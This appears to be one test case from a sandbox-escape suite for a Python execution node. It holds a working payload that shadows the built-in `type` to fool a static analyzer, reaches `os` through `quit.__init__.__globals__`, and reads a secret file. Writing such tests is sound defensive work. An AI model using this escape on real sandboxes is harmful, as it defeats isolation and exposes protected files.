# class: parser differentials
# technique: type as the name of a function
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def type(x):
    return x
g = type (quit.__init__.__globals__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
